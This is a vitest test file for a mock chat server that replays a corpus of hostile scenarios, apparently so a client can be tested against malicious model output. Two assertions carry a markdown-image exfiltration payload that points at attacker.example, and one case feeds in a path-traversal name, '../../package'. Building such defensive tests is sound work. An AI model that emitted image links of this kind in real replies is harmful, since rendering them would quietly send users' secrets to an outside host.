import { readdirSync, readFileSync } from 'node:fs';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createMockServer, type MockServer } from './create-mock-server.js';
import { HOSTILE_CORPUS_DIRECTORY, loadHostileCorpus } from './load-hostile-corpus.js';
import { HOSTILE_NAME_PATTERN, parseScenarioFile, scenarioText } from './scenarios/index.js';
import { connectSocket, connected, isFinishOf, okCommand, recordEvents } from './testing/mock-server-harness.js';

const corpusFiles = readdirSync(HOSTILE_CORPUS_DIRECTORY).filter((fileName) => fileName.endsWith('.json'));

describe('the hostile corpus', () => {
  it('has the markdown-image example', () => {
    expect(corpusFiles).toContain('markdown-image.json');
  });

  it.each(corpusFiles)('%s is a valid scenario file with a playable name', (fileName) => {
    expect(fileName.slice(0, -'.json'.length)).toMatch(HOSTILE_NAME_PATTERN);
    const parsed = parseScenarioFile(JSON.parse(readFileSync(join(HOSTILE_CORPUS_DIRECTORY, fileName), 'utf8')));
    expect(parsed).toMatchObject({ ok: true });
  });

  it('loads every file by name', async () => {
    const corpus = await loadHostileCorpus();
    expect([...corpus.keys()].sort()).toEqual(corpusFiles.map((fileName) => fileName.slice(0, -'.json'.length)).sort());
    expect(scenarioText(corpus.get('markdown-image') ?? [])).toContain('![x](https://attacker.example/leak?d=secret)');
  });
});

describe('loadHostileCorpus', () => {
  let directory: string;
  beforeAll(async () => {
    directory = await mkdtemp(join(tmpdir(), 'mock-hostile-'));
  });

  it.each([
    ['a step that is not an event', 'bad-step.json', JSON.stringify([{ type: 'text-delta', delta: 1 }]), 'bad-step.json: step 0: text-delta: delta'],
    ['a file that is not JSON', 'broken.json', '[{', 'Cannot read hostile scenario'],
    ['a name that cannot be played', 'Upper_Case.json', '[]', 'Upper_Case.json: the name must match'],
  ])('refuses %s, naming the file', async (_, fileName, content, message) => {
    const folder = await mkdtemp(join(directory, 'case-'));
    await writeFile(join(folder, 'fine.json'), '[]');
    await writeFile(join(folder, fileName), content);
    await expect(loadHostileCorpus(folder)).rejects.toThrow(message);
    await expect(createMockServer({ hostileScenarioDirectory: folder })).rejects.toThrow(message);
  });

  it('reads a missing folder as an empty corpus and ignores files that are not JSON', async () => {
    expect((await loadHostileCorpus(join(directory, 'nowhere'))).size).toBe(0);
    const folder = await mkdtemp(join(directory, 'mixed-'));
    await writeFile(join(folder, 'README.md'), '# notes');
    await writeFile(join(folder, 'ok.json'), '[]');
    expect([...(await loadHostileCorpus(folder)).keys()]).toEqual(['ok']);
  });
});

describe('hostile NAME on the server', () => {
  let server: MockServer;
  beforeAll(async () => {
    server = await createMockServer({ tokens: ['test-token'], speed: 0 });
  });
  afterAll(() => server.close());

  let playCount = 0;
  async function play(text: string) {
    const threadId = `hostile-${(playCount += 1)}`;
    const socket = connectSocket(server.url);
    const recorder = recordEvents(socket);
    await connected(socket);
    await okCommand(socket, 'thread:subscribe', { threadId });
    const { turnId } = await okCommand(socket, 'message:send', { threadId, clientMessageId: 'm', text });
    await recorder.waitFor(isFinishOf(turnId));
    socket.disconnect();
    return recorder.events(threadId);
  }

  it('plays the corpus file', async () => {
    const events = await play('hostile markdown-image');
    expect(events.map((event) => event.type)).toEqual(['turn-start', 'text-delta', 'text-delta', 'finish']);
    const text = events.flatMap((event) => (event.type === 'text-delta' ? [event.delta] : [])).join('');
    expect(text).toContain('![x](https://attacker.example/leak?d=secret)');
    expect(events.at(-1)).toMatchObject({ finishReason: 'stop' });
  });

  it.each([
    ['hostile no-such-file', 'No hostile scenario "no-such-file"; known: '],
    ['hostile ../../package', 'a-z, 0-9 and "-" only'],
  ])('answers %j with an error event and finish, and keeps serving', async (text, message) => {
    const events = await play(text);
    expect(events.map((event) => event.type)).toEqual(['turn-start', 'error', 'finish']);
    expect(events[1]).toMatchObject({ code: 'hostile_scenario_unavailable', message: expect.stringContaining(message) as unknown, retryable: false });
    expect(events[2]).toMatchObject({ finishReason: 'error' });
    expect((await play('echo still here')).map((event) => event.type)).toContain('finish');
  });
});
